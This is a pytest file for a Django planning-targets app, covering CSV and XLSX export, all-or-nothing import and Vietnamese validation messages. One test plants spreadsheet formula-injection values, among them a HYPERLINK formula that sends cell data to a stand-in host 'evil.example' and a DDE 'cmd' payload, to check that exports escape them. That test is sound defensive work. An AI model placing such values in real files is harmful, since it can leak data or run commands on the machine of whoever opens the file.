"""Export and all-or-nothing import, through the public and admin URLs."""

import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from congtin.targets.models import ReportedFigure, Target

pytestmark = pytest.mark.django_db


def upload(name, data):
    file = io.BytesIO(data)
    file.name = name
    return file


def test_exports_round_trip_without_changes(client, admin_client, plans):
    base = f"/chi-tieu/{plans.unit_slug}/2022/xuat/"
    csv_text = client.get(base + "chi-tieu.csv").content.decode("utf-8")
    assert csv_text.startswith("\ufeffMã,Tên chỉ tiêu")
    assert '"1.057,091"' in csv_text
    figures_csv = client.get(base + "so-lieu.csv")
    assert figures_csv["Content-Type"] == "text/csv; charset=utf-8"
    assert "9 tháng" in figures_csv.content.decode()
    assert client.get(base + "khac.csv").status_code == 404

    xlsx = client.get(base + "ke-hoach.xlsx").content
    book = load_workbook(io.BytesIO(xlsx))
    assert book.sheetnames == ["Chỉ tiêu", "Số liệu"]
    assert book["Chỉ tiêu"]["B7"].value == "Tổng thu ngân sách nhà nước trên địa bàn"
    assert str(book["Chỉ tiêu"]["F7"].value) == "1057.091"

    figures_before = ReportedFigure.objects.count()
    response = admin_client.post(
        "/admin/targets/nhap-tep/",
        {"plan": plans.pk, "kind": "targets", "file": upload("kh.xlsx", xlsx)},
    )
    assert response.status_code == 302
    assert ReportedFigure.objects.count() == figures_before
    assert Target.objects.get(plan=plans, code="CT06").value == Decimal("1057.091")
    # CSV of figures again: every figure already exists, nothing is added.
    response = admin_client.post(
        "/admin/targets/nhap-tep/",
        {
            "plan": plans.pk,
            "kind": "figures",
            "file": upload("so-lieu.csv", figures_csv.content),
        },
    )
    assert response.status_code == 302
    assert ReportedFigure.objects.count() == figures_before


def test_bad_rows_import_nothing_and_are_all_reported(admin_client, plans):
    book = Workbook()
    targets = book.active
    targets.title = "Chỉ tiêu"
    targets.append(["Mã", "Tên chỉ tiêu", "Nhóm", "Đơn vị tính", "Yêu cầu", "Giá trị"])
    targets.append(["CT20", "Số xã đạt chuẩn", "Kinh tế", "xã", "≥", "5"])  # unit
    targets.append(["CT21", "Tổng vốn đầu tư", "Kinh tế", "tỷ đồng", "≥", "hai"])
    targets.append(["CT21", "Vốn FDI", "Kinh tế", "triệu USD", "≥", "1.200,5"])
    targets.append(["CT22", "Hợp lệ", "Kinh tế", "tỷ đồng", "≥", "10"])
    figures = book.create_sheet("Số liệu")
    figures.append(["Mã chỉ tiêu", "Kỳ", "Số liệu", "Ngày"])
    figures.append(["CT01", "9 tháng 2023", "150", "30/09/2022"])  # period
    figures.append(["CT01", "Quý I", "40", "15/03/2020"])  # date
    figures.append(["CT99", "Cả năm", "1", "31/12/2022"])  # unknown code
    figures.append(["CT22", "6 tháng", "5", "30/06/2022"])  # new code: fine
    figures.append(["CT22", "9 tháng", "1,1234567", "30/09/2022"])  # 7 places
    data = io.BytesIO()
    book.save(data)
    targets_before = Target.objects.count()
    figures_before = ReportedFigure.objects.count()

    response = admin_client.post(
        "/admin/targets/nhap-tep/",
        {
            "plan": plans.pk,
            "kind": "targets",
            "file": upload("x.xlsx", data.getvalue()),
        },
    )
    assert response.status_code == 400
    html = response.content.decode()
    assert "Không nhập dòng nào: tệp có 7 lỗi." in html
    for message in (
        "Bảng “Chỉ tiêu”, dòng 2, cột “Đơn vị tính”: Đơn vị tính “xã” không có",
        "Bảng “Chỉ tiêu”, dòng 3, cột “Giá trị”: “hai” không phải là số",
        "Bảng “Chỉ tiêu”, dòng 4, cột “Mã”: Mã “CT21” trùng với dòng 3.",
        "Bảng “Số liệu”, dòng 2, cột “Kỳ”: Kỳ “9 tháng 2023” nằm ngoài năm kế hoạch",
        "Bảng “Số liệu”, dòng 3, cột “Ngày”: Ngày 15/03/2020 nằm ngoài năm",
        "Bảng “Số liệu”, dòng 4, cột “Mã chỉ tiêu”: Kế hoạch",
        "Bảng “Số liệu”, dòng 6, cột “Số liệu”: “1,1234567” không phải là số hợp lệ",
    ):
        assert message in html, message
    assert Target.objects.count() == targets_before
    assert ReportedFigure.objects.count() == figures_before


def test_unreadable_files_get_a_message_not_an_error(admin_client, plans):
    for name, data, message in (
        ("a.xlsx", b"not a zip", "Không đọc được tệp XLSX"),
        ("a.csv", "Mã;Kỳ".encode("utf-16"), "Tệp CSV phải lưu bằng mã UTF-8"),
        ("a.txt", b"x", "Chỉ nhận tệp .xlsx hoặc .csv."),
    ):
        response = admin_client.post(
            "/admin/targets/nhap-tep/",
            {"plan": plans.pk, "kind": "figures", "file": upload(name, data)},
        )
        assert response.status_code == 400, name
        assert message in response.content.decode(), name
    response = admin_client.post(
        "/admin/targets/nhap-tep/",
        {
            "plan": plans.pk,
            "kind": "figures",
            "file": upload("a.csv", "Mã chỉ tiêu;Kỳ\nCT01;6 tháng\n".encode()),
        },
    )
    assert response.status_code == 400
    assert "cột “Số liệu”: Thiếu cột này" in response.content.decode()


def test_csv_figures_import_records_who_and_keeps_history(admin_client, plans):
    from django.contrib.auth import get_user_model

    text = (
        "Mã chỉ tiêu;Kỳ;Số liệu;Tính theo;Ngày;Nguồn\n"
        "CT06;Cả năm;1.100,5;giá trị;28/12/2022;Báo cáo số 300/BC-UBND\n"
    )
    response = admin_client.post(
        "/admin/targets/nhap-tep/",
        {"plan": plans.pk, "kind": "figures", "file": upload("s.csv", text.encode())},
    )
    assert response.status_code == 302
    figure = ReportedFigure.objects.get(target__code="CT06", period="NAM")
    admin = get_user_model().objects.get(username="admin")
    assert figure.entered_by == admin
    assert str(figure.value) == "1100.500000"
    assert figure.revisions.count() == 1


def test_exports_never_hold_a_live_formula(client, plans):
    import csv
    from datetime import date

    note = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
    target = plans.targets.get(code="CT06")
    target.source_text = "@SUM(A1:A9)"
    target.save()
    ReportedFigure.objects.create(
        target=target,
        period="T06",
        value=Decimal("-5"),
        reported_on=date(2022, 6, 30),
        source="+84 225 3821 000",
        source_url="＝cmd|' /c calc'!A1",
        note=note,
    )
    base = f"/chi-tieu/{plans.unit_slug}/2022/xuat/"

    book = load_workbook(io.BytesIO(client.get(base + "ke-hoach.xlsx").content))
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    figures = book["Số liệu"]
    (row,) = [r for r in figures.iter_rows(values_only=True) if r[7] == note]
    assert row[2] == -5 and row[5] == "+84 225 3821 000"
    assert row[6] == "＝cmd|' /c calc'!A1"
    targets = {r[0]: r for r in book["Chỉ tiêu"].iter_rows(values_only=True)}
    assert targets["CT06"][11] == "@SUM(A1:A9)"

    text = client.get(base + "so-lieu.csv").content.decode("utf-8-sig")
    (row,) = [r for r in csv.reader(io.StringIO(text)) if r[7].endswith(note)]
    assert row[7] == "'" + note
    assert row[5] == "'+84 225 3821 000" and row[6] == "'＝cmd|' /c calc'!A1"
    assert row[2] == "-5"  # a number, not text to escape
    text = client.get(base + "chi-tieu.csv").content.decode("utf-8-sig")
    (row,) = [r for r in csv.reader(io.StringIO(text)) if r[0] == "CT06"]
    assert row[11] == "'@SUM(A1:A9)"
